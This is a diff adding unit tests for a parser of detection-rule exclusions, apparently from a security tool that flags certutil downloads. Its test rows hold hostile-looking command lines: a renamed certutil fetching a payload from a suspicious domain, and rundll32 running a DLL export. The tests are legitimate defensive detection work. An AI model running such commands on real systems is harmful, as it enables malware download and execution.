@@ -228,6 +228,110 @@ class ExclusionSetTest {
         assertFailsAtLine(twice, 7, "exclusion name 'Test entry' is used twice");
     }
 
+    /** Each mistake a user can make in the file, with the line the message names and its words. */
+    @Test
+    void everyMistakeIsReportedAtItsLineInPlainWords() {
+        String condition = "      {column: FileName, operator: =~, value: a.dll}\n";
+        String valid = entry(condition);
+        assertFailsAtLine(valid + "version: 2\n", 7, "unknown key 'version' in the file", "[exclusions]");
+        assertFailsAtLine("exclusions: {name: Test entry}\n", 1, "'exclusions' must be a list of entries");
+        assertFailsAtLine("exclusions:\n  - just a sentence\n", 2, "an exclusion must be a mapping of keys to values");
+        assertFailsAtLine(valid.replace("    rules:", "    severity: low\n    rules:"), 4,
+                "unknown key 'severity' in an exclusion", "name", "reason", "rules", "conditions");
+        assertFailsAtLine(valid.replace("- name: Test entry", "- name: \"  \""), 2,
+                "'name' of an exclusion is empty");
+        assertFailsAtLine(valid.replace("rules: [" + FAITHFUL + "]", "rules: []"), 4,
+                "rules of exclusion 'Test entry' must be a non-empty list");
+        assertFailsAtLine(entry("""
+                      {column: FileName, operator: =~, value: a.dll, case: ignore}
+                """), 6, "unknown key 'case' in a condition", "column/operator/value(s)/normalize");
+        assertFailsAtLine(entry("""
+                      column: InitiatingProcessCommandLine
+                      operator: has
+                      value: -urlcache
+                      normalize: yes
+                """), 9, "'normalize' must be true or false");
+        assertFailsAtLine(entry("""
+                      column: FileName
+                      operator: =~
+                      value: [a.dll, b.dll]
+                """), 8, "the value of '=~' on FileName must be a single value");
+        assertFailsAtLine(entry("""
+                      column: FileName
+                      operator: in~
+                      values: []
+                """), 8, "the values of 'in~' on FileName must be a non-empty list");
+        assertFailsAtLine(entry("""
+                      column: FileName
+                      operator: =~
+                """), 6, "'value' is missing in '=~' on FileName");
+        assertFailsAtLine(entry("      [FileName, =~, a.dll]\n"), 6, "a condition must be a mapping of keys to values");
+        String tooMany = IntStream.rangeClosed(1, 10_001).mapToObj(i -> "host" + i).collect(Collectors.joining(", "));
+        assertFailsAtLine(entry("""
+                      column: InitiatingProcessCommandLine
+                      operator: has_any
+                      values: [%s]
+                """.formatted(tooMany)), 8, "10001 distinct values", "10000");
+    }
+
+    /** Several entries cover the row: the first one in file order that names the rule is reported. */
+    @Test
+    void theFirstMatchingEntryInFileOrderIsTheOneReported() {
+        String forHardened = """
+                  - name: Only for the hardened rule
+                    reason: Names the other rule, so it never covers the faithful rule's matches.
+                    rules: [%s]
+                    conditions: {column: InitiatingProcessFileName, operator: =~, value: x8k2.exe}
+                """.formatted(RuleIds.CERTUTIL_DOWNLOAD_HARDENED);
+        String byName = """
+                  - name: Renamed certutil in the Public folder
+                    reason: Lab machine where the red team stages certutil copies.
+                    rules: [%s]
+                    conditions: {column: InitiatingProcessFileName, operator: =~, value: x8k2.exe}
+                """.formatted(FAITHFUL);
+        String byDevice = """
+                  - name: The red team's lab workstation
+                    reason: Everything on wks-0142 is an exercise.
+                    rules: [%s]
+                    conditions: {column: DeviceName, operator: =~, value: WKS-0142.contoso.local}
+                """.formatted(FAITHFUL);
+        DeviceFileEvent event = row("x8k2.exe", "x8k2.exe -urlcache -split -f http://pshe0pxe339.xyz/a.php a.dll");
+
+        assertThat(ExclusionSet.parse("exclusions:\n" + forHardened + byName + byDevice, "a.yaml")
+                .firstMatch(FAITHFUL, event)).extracting(Exclusion::name).isEqualTo("Renamed certutil in the Public folder");
+        assertThat(ExclusionSet.parse("exclusions:\n" + forHardened + byDevice + byName, "b.yaml")
+                .firstMatch(FAITHFUL, event)).extracting(Exclusion::name).isEqualTo("The red team's lab workstation");
+        assertThat(ExclusionSet.parse("exclusions:\n" + forHardened + byDevice + byName, "b.yaml")
+                .firstMatch(RuleIds.CERTUTIL_DOWNLOAD_HARDENED, event)).extracting(Exclusion::name)
+                .isEqualTo("Only for the hardened rule");
+    }
+
+    @Test
+    void negatedAndCaseSensitiveOperatorsEvaluateAsInKql() {
+        ExclusionSet notHas = ExclusionSet.parse(entry("""
+                      {column: InitiatingProcessCommandLine, operator: "!has", value: http}
+                """), "tuning.yaml");
+        // https is one term, so the line has no term http.
+        assertThat(notHas.firstMatch(FAITHFUL, row("x8k2.exe", "x8k2.exe -urlcache -f https://a.example/b"))).isNotNull();
+        assertThat(notHas.firstMatch(FAITHFUL, row("x8k2.exe", "x8k2.exe -urlcache -f HTTP://a.example/b"))).isNull();
+
+        ExclusionSet hasCs = ExclusionSet.parse(entry("""
+                      {column: InitiatingProcessCommandLine, operator: has_cs, value: GlobalOut}
+                """), "tuning.yaml");
+        assertThat(hasCs.firstMatch(FAITHFUL, row("rundll32.exe", "rundll32.exe C:\\x\\a.dll,GlobalOut"))).isNotNull();
+        assertThat(hasCs.firstMatch(FAITHFUL, row("rundll32.exe", "rundll32.exe C:\\x\\a.dll,globalout"))).isNull();
+        assertThat(hasCs.firstMatch(FAITHFUL, row("rundll32.exe", "rundll32.exe C:\\x\\a.dll,GlobalOutput"))).isNull();
+
+        ExclusionSet notContains = ExclusionSet.parse(entry("""
+                      {column: FolderPath, operator: "!contains", value: \\cryptneturlcache\\}
+                """), "tuning.yaml");
+        DeviceFileEvent payload = row("x8k2.exe", "x8k2.exe -urlcache -split -f http://a.example/b");
+        DeviceFileEvent cacheEntry = row("x8k2.exe", "x8k2.exe -urlcache -split -f http://a.example/b");
+        cacheEntry.folderPath = "C:\\Users\\j.doe\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\9F3A1C0E";
+        assertThat(notContains.firstMatch(FAITHFUL, payload)).isNotNull();
+        assertThat(notContains.firstMatch(FAITHFUL, cacheEntry)).as("contains ignores case").isNull();
+    }
+
     @Test
     void emptyFileIsRejected() {
         assertFailsAtLine("# only a comment\n", 1, "empty");
